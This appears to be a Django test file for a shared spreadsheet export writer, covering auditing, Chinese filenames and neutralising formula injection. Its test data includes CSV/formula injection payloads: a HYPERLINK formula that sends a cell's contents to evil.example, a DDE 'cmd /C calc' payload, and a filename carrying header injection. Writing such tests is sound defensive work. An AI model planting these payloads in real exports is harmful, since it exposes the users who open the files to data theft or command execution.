"""The shared export writer (issue 10): formulas never come alive, every export is audited, names survive."""

import csv
import datetime as dt
import io
import zipfile

from django.test import RequestFactory
from django.utils import timezone
from openpyxl import load_workbook

from muster.core.models import AuditEvent
from muster.web import exports

EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
        "＝1+1"]


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _request(world, query=""):
    request = RequestFactory().get(f"/x/?{query}")
    request.user = world.coordinator
    return request


def test_xlsx_keeps_formula_like_text_as_text(world):
    evil = [v for v in EVIL if not v.startswith("\r")]  # XML reads a bare CR back as LF
    rows = [[v, 5, -3, None] for v in evil]
    r = exports.respond(_request(world), action="test.export", filename="t.xlsx", sheets=exports.Sheet("T", ["a", "b", "c", "d"], rows))
    data = _body(r)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula anywhere in the file
    ws = load_workbook(io.BytesIO(data)).worksheets[0]
    got = list(ws.iter_rows(min_row=2, values_only=True))
    assert [g[0] for g in got] == evil and all(g[1:3] == (5, -3) for g in got)
    assert all(ws.cell(row=i, column=1).data_type == "s" for i in range(2, len(evil) + 2))
    assert ws.cell(row=2, column=1).quotePrefix


def test_csv_prefixes_formula_like_text(world):
    rows = [[v, 7, -1.5] for v in EVIL] + [["张秀英", dt.date(2020, 6, 11), timezone.make_aware(dt.datetime(2020, 6, 11, 8))]]
    r = exports.respond(_request(world), action="test.export", filename="t.csv", sheets=exports.Sheet("T", ["名字", "n", "x"], rows))
    raw = _body(r)
    assert raw.startswith(b"\xef\xbb\xbf") and r["Content-Type"].startswith("text/csv")
    got = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert got[0] == ["名字", "n", "x"]
    assert [g[0] for g in got[1:-1]] == ["'" + v for v in EVIL] and got[1][1:] == ["7", "-1.5"]
    assert got[-1] == ["张秀英", "2020-06-11", "2020-06-11 08:00:00"]


def test_export_is_audited_with_rows_and_filters(world):
    exports.respond(_request(world, "q=张&page=3&skill=a&skill=b"), action="people.export",
                    filename="people.xlsx", sheets=exports.Sheet("P", ["n"], ([i] for i in range(42))))
    event = AuditEvent.objects.get(action="people.export")
    assert event.kind == AuditEvent.Kind.READ and event.actor == world.coordinator
    assert event.changes["rows"] == 42 and event.changes["format"] == "xlsx"
    assert event.changes["filters"] == {"q": "张", "skill": ["a", "b"]}
    assert event.region_path == world.puanli.path


def test_filename_is_safe_and_keeps_chinese():
    assert exports.content_disposition("people.xlsx") == 'attachment; filename="people.xlsx"'
    header = exports.content_disposition("人员名单 6月.xlsx")
    assert header.startswith('attachment; filename="') and "filename*=UTF-8''%E4%BA%BA%E5%91%98" in header
    header = exports.content_disposition('a"b\r\nSet-Cookie: x.csv')
    assert header.count('"') == 2 and "\r" not in header and "\n" not in header


def test_control_characters_and_aware_times_do_not_break_xlsx(world):
    at = timezone.make_aware(dt.datetime(2020, 6, 11, 8, 30))
    r = exports.respond(_request(world), action="t.export", filename="t.xlsx",
                        sheets=exports.Sheet("T", ["a", "b"], [["bad\x01name\x0b", at]]))
    row = list(load_workbook(io.BytesIO(_body(r))).worksheets[0].iter_rows(min_row=2, values_only=True))[0]
    assert row == ("badname", dt.datetime(2020, 6, 11, 8, 30))


def test_large_exports_stream_from_disk(world, monkeypatch):
    monkeypatch.setattr(exports, "SPOOL_BYTES", 1000)
    r = exports.respond(_request(world), action="t.export", filename="t.csv", sheets=exports.Sheet("T", ["a"], ([f"row {i}"] for i in range(5000))))
    assert r.streaming and _body(r).count(b"\n") == 5001


# --- every export goes through it -------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/","x")'


def _cells(response) -> list:
    wb = load_workbook(io.BytesIO(_body(response)))
    return [(ws.title, c.value, c.data_type) for ws in wb for row in ws.iter_rows(min_row=2) for c in row]


def _assert_inert(response):
    cells = _cells(response)
    assert any(v == HYPERLINK and t == "s" for _s, v, t in cells), cells
    assert not any(t == "f" for _s, _v, t in cells)


def test_people_export_writes_names_as_text(world, login):
    from muster.people.actions import PersonData, person_create

    person_create(actor=world.admin, data=PersonData(name=HYPERLINK, region=world.puanli))
    r = login(world.coordinator).get("/people/export.xlsx")
    assert r.status_code == 200 and 'filename="' in r["Content-Disposition"]
    _assert_inert(r)
    assert AuditEvent.objects.filter(action="people.export", kind="read").get().changes["rows"] == 2


def test_needs_board_export_writes_names_as_text(world, login):
    from muster.needs import actions
    from muster.needs.tests.helpers import post
    from muster.people.models import Person

    need = post(world, headcount=1)
    actions.report_accept(actor=world.coordinator, report=actions.report_create(actor=world.member, need=need))
    Person.objects.filter(pk=world.alice.pk).update(name=HYPERLINK)
    r = login(world.coordinator).get("/needs/board/export.xlsx?gaps=")
    _assert_inert(r)
    event = AuditEvent.objects.filter(action="needs.export").get()
    assert event.changes["rows"] == 1 and "gaps" in event.changes["filters"]


def test_passage_register_export_writes_names_as_text(world, login):
    from muster.checkpoints.models import Passage
    from muster.rosters.actions import post_create

    post_ = post_create(actor=world.coordinator, site=world.gate, name="南门")
    Passage.objects.create(post=post_, region=world.puanli, at=timezone.now(), visitor_name=HYPERLINK, direction="in",
                           temperature="36.5", health_code="green", recorded_by=world.coordinator)
    r = login(world.coordinator).get("/checkpoints/register.xlsx")
    _assert_inert(r)
    assert AuditEvent.objects.filter(action="passage.export").get().changes["rows"] == 1


def test_no_view_builds_a_spreadsheet_itself():
    """Exports are selectors plus the shared writer: no view imports openpyxl or writes CSV."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    offenders = [str(p.relative_to(root)) for p in root.rglob("views.py")
                 if any(w in p.read_text() for w in ("openpyxl", "Workbook", "csv.writer", "text/csv"))]
    assert offenders == []
